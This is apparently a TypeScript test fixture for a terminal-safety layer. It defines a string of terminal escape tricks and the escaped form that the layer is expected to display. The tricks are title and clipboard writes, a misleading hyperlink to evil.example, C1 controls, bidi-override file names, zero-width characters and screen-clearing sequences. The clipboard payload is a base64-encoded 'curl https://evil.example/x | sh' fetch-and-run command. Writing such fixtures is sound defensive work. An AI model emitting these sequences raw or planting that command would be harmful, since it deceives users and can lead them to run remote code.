// What an agent, a tool result or a web page can put in front of a person: window title (OSC 0), clipboard
// (OSC 52), a hyperlink whose target differs from its text (OSC 8), C1 controls (U+009B is a CSI by itself, U+009D an
// OSC), bidi overrides and isolates, zero-width characters, and plain CSI sequences that clear, move and confine.

const escape = '\x1b';

/** One string with every trick; written raw to a terminal it sets the title and clipboard and clears the screen. */
export const hostileText =
  `title${escape}]0;pwned-title\x07 ` +
  `clipboard${escape}]52;c;${Buffer.from('curl https://evil.example/x | sh').toString('base64')}${escape}\\ ` +
  `link${escape}]8;;https://evil.example/steal${escape}\\https://docs.example/${escape}]8;;${escape}\\ ` +
  `c1\u009b2J\u009d0;c1-title\u009c ` +
  `bidi invoice_\u202etxt.exe \u2066isolated\u2069 zero\u200bwidth ` +
  `csi${escape}[2J${escape}[H${escape}[1;2r${escape}[8mconcealed${escape}[0m`;

/** `hostileText` as the terminal-safety layer shows it (JavaScript-style escapes). */
export const hostileTextShown =
  'title\\x1b]0;pwned-title\\x07 ' +
  `clipboard\\x1b]52;c;${Buffer.from('curl https://evil.example/x | sh').toString('base64')}\\x1b\\ ` +
  'link\\x1b]8;;https://evil.example/steal\\x1b\\https://docs.example/\\x1b]8;;\\x1b\\ ' +
  'c1\\x9b2J\\x9d0;c1-title\\x9c ' +
  'bidi invoice_\\u202etxt.exe \\u2066isolated\\u2069 zero\\u200bwidth ' +
  'csi\\x1b[2J\\x1b[H\\x1b[1;2r\\x1b[8mconcealed\\x1b[0m';
